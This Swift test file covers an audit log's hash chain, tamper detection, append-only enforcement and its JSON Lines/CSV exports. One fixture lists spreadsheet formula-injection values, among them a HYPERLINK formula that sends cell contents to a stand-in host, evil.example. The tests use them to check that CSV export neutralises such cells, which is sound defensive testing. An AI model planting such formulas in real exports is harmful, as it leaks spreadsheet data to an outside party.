import Foundation
import GRDB
import Synchronization
import TeamSyncCore
import Testing
@testable import SyncJournal

@Suite("Audit log: hash chain, tamper evidence, exports")
struct AuditLogTests {
    static let day1 = Date(timeIntervalSince1970: 1_800_000_000)  // 2027-01-15T08:00:00Z
    static let day2 = day1.addingTimeInterval(86_400)

    private func filled() async throws -> TemporaryJournal {
        let temporary = try TemporaryJournal()
        try await temporary.journal.append([
            AuditRecord(time: Self.day1, runID: "run-1", action: .runStarted, outcome: .ok),
            AuditRecord(time: Self.day1.addingTimeInterval(5), runID: "run-1", action: .create, outcome: .ok,
                externalUserID: "e-1", poderoUserID: "p-1", email: "zoë@example.com", roleAfter: "admin",
                reason: "member of cn=podero-admins via cn=ops-leads, \"quoted\"\nand a new line / slash"),
        ])
        try await temporary.journal.append([
            AuditRecord(time: Self.day2, runID: "run-2", action: .softDelete, outcome: .failed,
                externalUserID: "e-2", roleBefore: "staff", reason: "left, with a comma"),
        ])
        return temporary
    }

    private func export(_ journal: SyncJournal, _ format: AuditExport.Format, since: Date? = nil, until: Date? = nil) async throws -> String {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("export-\(UUID().uuidString).\(format.rawValue)")
        _ = FileManager.default.createFile(atPath: url.path, contents: nil)
        let handle = try FileHandle(forWritingTo: url)
        let writer = try AuditExport(format: format, descriptor: handle.fileDescriptor)
        try await journal.forEachAuditRecord(since: since, until: until) { try writer.write($0) }
        try writer.finish()
        try handle.close()
        defer { try? FileManager.default.removeItem(at: url) }
        return try String(contentsOf: url, encoding: .utf8)
    }

    @Test("issue 15 #10: a full disk is an error, never a crash (/dev/full)")
    func fullDisk() async throws {
        let temporary = try await filled()
        defer { temporary.remove() }
        let full = open("/dev/full", O_WRONLY)
        try #require(full >= 0)
        defer { close(full) }
        let writer = try AuditExport(format: .jsonl, descriptor: full)
        await #expect {
            try await temporary.journal.forEachAuditRecord(since: nil, until: nil) { try writer.write($0) }
            try writer.finish()
        } throws: { error in
            "\(error)".contains("No space left on device")
        }
    }

    @Test("the chain is intact, seq counts from 1, the first record chains from 64 zeros")
    func chain() async throws {
        let temporary = try await filled()
        defer { temporary.remove() }
        #expect(try await temporary.journal.verifyAudit() == .intact(records: 3))
        let record = try await temporary.journal.database.read { db in
            try SyncJournal.auditRecord(try Row.fetchOne(db, sql: "SELECT * FROM audit_log WHERE seq = 1")!)
        }
        #expect(record.hash == AuditChain.hash(record, previous: AuditChain.genesis))
        #expect(AuditChain.canonical(record) == #"{"action":"run_started","email":null,"external_user_id":null,"outcome":"ok","podero_user_id":null,"reason":null,"role_after":null,"role_before":null,"run_id":"run-1","seq":1,"time":"2027-01-15T08:00:00Z"}"#)
    }

    @Test("the database refuses to change or delete audit records")
    func appendOnly() async throws {
        let temporary = try await filled()
        defer { temporary.remove() }
        await #expect(throws: DatabaseError.self) {
            try await temporary.journal.database.write { db in try db.execute(sql: "UPDATE audit_log SET reason = 'x' WHERE seq = 2") }
        }
        await #expect(throws: DatabaseError.self) {
            try await temporary.journal.database.write { db in try db.execute(sql: "DELETE FROM audit_log WHERE seq = 3") }
        }
    }

    @Test("tampering is detected and the first bad record named", arguments: ["edit", "delete", "unknown action"])
    func tamper(how: String) async throws {
        let temporary = try await filled()
        defer { temporary.remove() }
        try await temporary.journal.database.write { db in
            try db.execute(sql: "DROP TRIGGER audit_log_no_update; DROP TRIGGER audit_log_no_delete")
            if how == "edit" {
                try db.execute(sql: "UPDATE audit_log SET role_after = 'staff' WHERE seq = 2")
            } else if how == "unknown action" {
                try db.execute(sql: "UPDATE audit_log SET action = 'promote' WHERE seq = 2")
            } else {
                try db.execute(sql: "DELETE FROM audit_log WHERE seq = 2")
            }
        }
        let verdict = try await temporary.journal.verifyAudit()
        switch how {
        case "edit": #expect(verdict == .broken(seq: 2, reason: "its content does not match its hash"))
        case "delete": #expect(verdict == .broken(seq: 2, reason: "record 2 is missing"))
        default:
            guard case .broken(2, let reason) = verdict else { Issue.record("expected seq 2 broken, got \(verdict)"); return }
            #expect(reason.contains("action 'promote'"))
        }
    }

    @Test("JSON Lines: every field, in order, nulls explicit; filters are inclusive, a date is a whole UTC day")
    func jsonl() async throws {
        let temporary = try await filled()
        defer { temporary.remove() }
        let all = try await export(temporary.journal, .jsonl).split(separator: "\n")
        #expect(all.count == 3)
        #expect(all[0].hasPrefix(#"{"seq":1,"time":"2027-01-15T08:00:00Z","run_id":"run-1","action":"run_started","outcome":"ok","external_user_id":null,"#))
        #expect(all[1].contains(#""email":"zoë@example.com""#))
        #expect(all[1].contains(#"\"quoted\"\nand a new line / slash"#))
        let day = try await export(temporary.journal, .jsonl, since: Self.day1, until: Self.day1.addingTimeInterval(86_399))
        #expect(day.split(separator: "\n").count == 2)
        let exact = try await export(temporary.journal, .jsonl, since: Self.day1.addingTimeInterval(5), until: Self.day2)
        #expect(exact.split(separator: "\n").count == 2)
    }

    @Test("CSV: header in order, quoting by RFC 4180, absent values empty")
    func csv() async throws {
        let temporary = try await filled()
        defer { temporary.remove() }
        let text = try await export(temporary.journal, .csv)
        #expect(text.hasPrefix("seq,time,run_id,action,outcome,external_user_id,podero_user_id,email,role_before,role_after,reason,hash\r\n"))
        #expect(text.contains("3,2027-01-16T08:00:00Z,run-2,soft_delete,failed,e-2,,,staff,,\"left, with a comma\","))
    }

    /// Values a directory could hand us that a spreadsheet would run (issue 13), each in a
    /// field that reaches the export from outside.
    static let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+49 30 1234", "-2+3", "@SUM(A1:A9)",
                           "\tcmd", "\r=1", "'already quoted", "''", "'", "plain, with a comma"]

    private func withFormulas() async throws -> TemporaryJournal {
        let temporary = try TemporaryJournal()
        try await temporary.journal.append(Self.formulas.enumerated().map { index, value in
            AuditRecord(time: Self.day1.addingTimeInterval(Double(index)), runID: "run-1", action: .skip, outcome: .ok,
                externalUserID: value, email: value, reason: value)
        })
        return temporary
    }

    @Test("CSV: a cell a spreadsheet would run as a formula (=, +, -, @, tab, CR, ') gets one leading '; JSON Lines stay byte-faithful")
    func formulaCells() async throws {
        let temporary = try await withFormulas()
        defer { temporary.remove() }
        let csv = try await export(temporary.journal, .csv)
        #expect(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\","))
        #expect(csv.contains(",'+49 30 1234,,'+49 30 1234,,,'+49 30 1234,"))
        #expect(csv.contains(",'-2+3,"))
        #expect(csv.contains(",'@SUM(A1:A9),"))
        #expect(csv.contains(",'\tcmd,"))
        #expect(csv.contains(",\"'\r=1\","))
        #expect(csv.contains(",''already quoted,"))
        #expect(csv.contains(",''',"))
        #expect(csv.contains(",'',"))
        #expect(csv.contains(",\"plain, with a comma\","))
        for value in Self.formulas { #expect(AuditExport.csvValue(ofCell: Self.unquoted(AuditExport.csvField(value))) == value) }
        #expect(AuditExport.csvField("2027-01-15T08:00:00Z") == "2027-01-15T08:00:00Z")
        let jsonl = try await export(temporary.journal, .jsonl)
        #expect(jsonl.contains(#""email":"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")""#))
        #expect(!jsonl.contains("'="))
    }

    /// RFC 4180 unquoting of one cell.
    private static func unquoted(_ cell: String) -> String {
        guard cell.hasPrefix("\""), cell.hasSuffix("\""), cell.count >= 2 else { return cell }
        return String(cell.dropFirst().dropLast()).replacingOccurrences(of: "\"\"", with: "\"")
    }

    @Test("an export can be checked without our tool (Python's json and hashlib), formula cells too",
          arguments: [(AuditExport.Format.jsonl, false), (.csv, false), (.jsonl, true), (.csv, true)])
    func independentCheck(format: AuditExport.Format, formulas: Bool) async throws {
        let temporary = try await formulas ? withFormulas() : filled()
        defer { temporary.remove() }
        let url = temporary.directory.appendingPathComponent("audit.\(format.rawValue)")
        try await export(temporary.journal, format).write(to: url, atomically: true, encoding: .utf8)
        let script = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().appendingPathComponent("Scripts/verify-audit-export.py")
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", script.path, url.path]
        let output = Pipe()
        process.standardOutput = output
        try process.run()
        process.waitUntilExit()
        let text = String(decoding: output.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        #expect(process.terminationStatus == 0, "\(text)")
        #expect(text.contains("intact: \(formulas ? Self.formulas.count : 3) records"))
    }
}
